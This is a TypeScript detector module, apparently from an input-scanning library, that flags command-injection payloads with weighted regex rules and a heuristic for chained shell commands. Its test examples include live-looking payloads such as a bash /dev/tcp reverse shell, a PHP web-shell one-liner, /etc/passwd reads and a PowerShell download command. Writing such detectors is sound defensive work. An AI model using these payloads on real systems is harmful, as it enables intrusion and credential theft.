import { ambiguousCommands, commands } from './commands.ts'
import type { PatternRule, PayloadGrammar, PayloadHit } from './grammar.ts'
import { firstMatch } from './grammar.ts'

const kind = 'command-injection'

/** Constructs that are shell or interpreter code wherever they stand. */
const rules: readonly PatternRule[] = [
  ['function-import', 0.98, /\(\s?\)\s?\{\s?[:_]\s?;?/],
  ['field-separator', 0.97, /\$\{?ifs\b/],
  [
    'shell-path',
    0.95,
    /(?:^|[\s;|&`'"(=<>$@])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z][\w-]*(?!\.[a-z])(?![\w-])|[?*\w]*[?*])/,
  ],
  [
    'system-file',
    0.9,
    /(?:^|[\s;|&`])(?:cat|more|less|head|tail|type|nl|tac|od|strings|grep|vi|cp|mv|rm)\s+(?:-\S+\s+)?\S{0,40}\/(?:etc|proc|var|root|home|tmp)\b/,
  ],
  ['shell-arithmetic', 0.93, /\$\(\(\s?\d{1,20}\s?[*+-]/],
  [
    'code-call',
    0.93,
    /(?:^|[^\w.])@?(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec|proc_nice|gzdecode|gzuncompress|bzdecompress|scandir|opendir|highlight_file|show_source|parse_ini_file|unserialize|phpinfo|assert|create_function|call_user_func(?:_array)?|file_get_contents|file_put_contents|base64_decode|str_rot13|gzinflate|preg_replace|var_dump|print_r|fopen|fsockopen|readfile|move_uploaded_file|ini_set|die|md5)\(\s?["'$\w@)[]/,
  ],
  ['php-tag', 0.95, /<\?(?:php|=|\s)/],
  [
    'php-variable',
    0.9,
    /\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\$\{\s?@?[a-z_]+\(/,
  ],
  [
    'import-call',
    0.93,
    /__import__\s?\(|(?:^|[^\w.])(?:os|subprocess|commands|pty|child_process)\.(?:system|popen|exec[a-z]*|spawn[a-z]*|call|run|check_output)\b|require\s?\(\s?["'](?:child_process|fs|net|os|vm)["']|process\.(?:mainmodule|binding\()/,
  ],
  [
    'runtime-call',
    0.93,
    /runtime\.getruntime|processbuilder|getruntime\(\)|java\.lang\.(?:runtime|process|system|class)/,
  ],
  [
    'reverse-shell',
    0.97,
    /\/dev\/(?:tcp|udp)\/|\bnc\s+(?:-\S+\s+)+|\bbash\s+-[ic]\b|\bsh\s+-[ic]\b|powershell(?:\.exe)?\s+-/,
  ],
  ['windows-loop', 0.95, /\bfor\s+(?:\/[dlrf]\s+(?:\S{1,64}\s+)?)?%{1,2}\w+\s+in\s*\(/],
  [
    'windows-condition',
    0.93,
    /\bif\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+\S|defined\s+\w|errorlevel\s+\d|cmdextversion\s+\d|"[^"\s]{0,40}"\s?==\s?")/,
  ],
  [
    'powershell',
    0.95,
    /\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|start-process|new-object\s+(?:system|net)\.|get-wmiobject)\b|\biex\s?\(|\biwr\s+(?:-|https?:)|\biwmi\s+-/,
  ],
  ['brace-expansion', 0.85, /\{,[a-z][\w-]{0,30}[,}]|\{\w{1,16},-\w{1,16}\}/],
  ['process-substitution', 0.8, /(?:^|\s)[<>]\([a-z]{2,}[^)]{0,60}\)/],
  ['function-import', 0.9, /^\s?\(\s?\)\s?\{/],
  ['shell-variable', 0.85, /\$\{?(?:shell|bash|hosttype|ostype)\b/],
  [
    'indirect-call',
    0.88,
    /\(\s?(?:string\s?\)\s?)?["']?[a-z_.()]{3,40}["']?\s?\)\s?\(\s?["'][^"']{1,80}["']\s?\)\s?;?\s?$/,
  ],
  ['variable-call', 0.8, /(?:^|[^\w)])@?\$\$?[a-z_]\w{0,30}(?:\[\w{0,20}\])?\((?:\d|["'])/],
  [
    'evaluated-code',
    0.9,
    /\bnew function\s?\(|\bthis\.constructor\b|\bprocess\.(?:spawn|exec|mainmodule)|__js_function/,
  ],
  ['windows-shell', 0.93, /\bcmd(?:\.exe)?\s?\/[ck]\b|%(?:comspec|systemroot|windir)%|\bset\s\/a\s/],
  ['interpreter-option', 0.85, /(?:^|[\s;|&`])(?:python[23]?|perl|ruby|php|node)\s+-[cer]\b/],
]

const separators = /[;|&\n\r`]|\$\(|\{(?=[a-z])/g

/** A word as the shell would see it: quotes, backslashes, carets and empty expansions do not separate. */
function unquote(text: string): string {
  return text.replace(/['"\\^]|\$[@*]|\$\{[a-z@*]?\}/g, '')
}

/** A command line at `text`: the program is known, and what follows could be its arguments. */
function commandAt(text: string, tight = false): number {
  const line = unquote(text.slice(0, 256)).trimStart().replace(/^\++/, '')
  const end = line.search(/[\s;|&`<>(){}$,+]/)
  const path = end === -1 ? line : line.slice(0, end)
  const name = path.slice(path.lastIndexOf('/') + 1).replace(/\)+$/, '')
  if (!commands.has(name)) return 0
  const rest = end === -1 ? '' : line.slice(end)
  if (!ambiguousCommands.has(name)) return rest === '' || /^[\s;|&`<>()$+]/.test(rest) ? 0.9 : 0
  const argument = rest.trimStart().replace(/^,/, '')
  if (argument === '' || /^[;|&`<>)]/.test(argument)) return tight ? 0.8 : 0
  if (
    /^(?:-{1,2}[\w]|\/|\.{1,2}\/|\$|\d{1,3}(?:\.\d{1,3}){3}|\*|~|%|["'`]|[a-z]:)/.test(
      argument.replace(/^\++/, ''),
    )
  )
    return 0.88
  if (/^\+/.test(rest)) return 0.75
  if (name === 'sleep' || name === 'ping' || name === 'timeout')
    return /^[\d\w.-]+\s*(?:$|[;|&#`])/.test(argument) ? 0.85 : 0
  return name === 'echo' ? (/^[\w$-]+\s*(?:$|[;|&>`])/.test(argument) ? 0.75 : 0) : 0
}

function inspect(value: string, lower: string): PayloadHit | undefined {
  const strong = firstMatch(kind, rules, lower)
  if (strong !== undefined) return strong
  let best = 0
  let tried = 0
  for (const separator of lower.matchAll(separators)) {
    tried += 1
    if (tried > 256) break
    // `a & b` in prose has a space on both sides and no program after it; `&amp;` and `?a=1&id=2` are not command lines.
    const at = separator.index + separator[0].length
    if (separator[0] === '&' && /^[\w.[\]-]+=/.test(lower.slice(at, at + 64))) continue
    if (separator[0] === '\n' || separator[0] === '\r') {
      const found = commandAt(lower.slice(at, at + 256))
      if (
        found >= 0.88 &&
        best < 0.75 &&
        /^\s*[\w./]+\s+(?:-\w|\/\w|https?:|\d{1,3}(?:\.\d{1,3}){3}|\$)/.test(lower.slice(at, at + 256))
      )
        best = 0.75
      continue
    }
    // Markdown marks code with backticks: a program named in a sentence is no command.
    const named = separator[0] === '`' && separator.index > 0 && lower[separator.index - 1] === ' '
    const tight = separator.index < 4 || (lower[at] !== ' ' && !named)
    const confidence = named
      ? Math.min(0.6, commandAt(lower.slice(at, at + 256)))
      : commandAt(lower.slice(at, at + 256), tight)
    if (confidence > best) best = confidence
  }
  if (best > 0) return { kind, rule: 'chained-command', confidence: best }
  const first = commandAt(lower)
  if (
    first >= 0.88 &&
    /\s/.test(lower) &&
    /\s(?:-\w|\/\w|\d{1,3}\.\d{1,3}\.\d{1,3}\.|[a-z]:|https?:)/.test(lower)
  )
    return { kind, rule: 'command-line', confidence: 0.8 }
  const spliced = unquote(lower)
  if (spliced !== lower && value.length < 512) {
    const again = firstMatch(kind, rules.slice(0, 4), spliced)
    if (again !== undefined) return { ...again, confidence: again.confidence - 0.05 }
  }
  return undefined
}

export const commandInjection: PayloadGrammar = {
  kind,
  triggers: [
    ';',
    '|',
    '&',
    '`',
    '$',
    '\n',
    '\r',
    '/bin',
    '/etc',
    '/dev/',
    ' -',
    '(',
    '<?',
    '%comspec',
    '%windir',
    'cmd',
    'python',
    'ping',
    'powershell',
    '+/',
    ' /',
    'java.lang',
    'http',
    'invoke-',
    '{,',
    'start-process',
    '%',
    'if ',
    'constructor',
    '__js',
  ],
  inspect,
  examples: {
    hits: [
      '; cat /etc/passwd',
      '|id',
      'a;/usr/bin/id',
      '`id`',
      '$(whoami)',
      '127.0.0.1 && ls /etc',
      'ping -i 30 127.0.0.1',
      '() { :; }; echo vulnerable',
      ";c'a't /et'c/pa'ss'wd",
      ';getent$IFS$9hosts',
      '| /bin/sleep 31 ;',
      'x & ping -n 31 127.0.0.1 &',
      '<?php system($_GET["c"]); ?>',
      '/bin/bash -i >& /dev/tcp/1.2.3.4/9 0>&1',
      "__import__('os').system('id')",
      '|dir c:\\',
      '{cat,/etc/hosts}',
      'cmd /c whoami',
      'for %x in (set) do command',
      'if exist c:\\a',
      'Invoke-WebRequest http://example.com/x.ps1',
      '{,ifconfig}',
      "(system)('uname');",
      '<(cmd)',
      'new Function ("x")',
    ],
    misses: [
      'Tom & Jerry',
      'read; think; act',
      'R&D; sales & more',
      'a | b',
      'salt & pepper; sort of',
      'cats and dogs',
      'find me a table for 2',
      'AT&T',
      'a=1&id=2&sort=asc',
      'US$ 20 (about $19)',
      'sleep well; id card',
      'cat & dog',
      'we ping you; more later',
      'the head of sales',
      '`code` in markdown',
      'echo of the past',
      'i++; j--',
      'first line\nsecond line',
      'Note:\ntime is short',
      'text/html;charset=utf-8',
      'en-US,en;q=0.9',
      'user@example.com; other@example.com',
      'fish & chips',
      'ID; name',
      'Main Street 5\n Apt. 656\n Springfield',
      'Main Street 5\nApt 656\nSpringfield',
      '/bin/querybuilder.json',
      'bot (compatible; snap; +http://example.com)',
      'if you like it, 100% yes',
      'sold (in stock)("new") today',
      'the system (new) is up',
      'function() { return 1 }',
      '{a,b}',
      '(555) 123-4567',
      'x <(y)',
      'cost: $x (approx.)',
    ],
  },
}
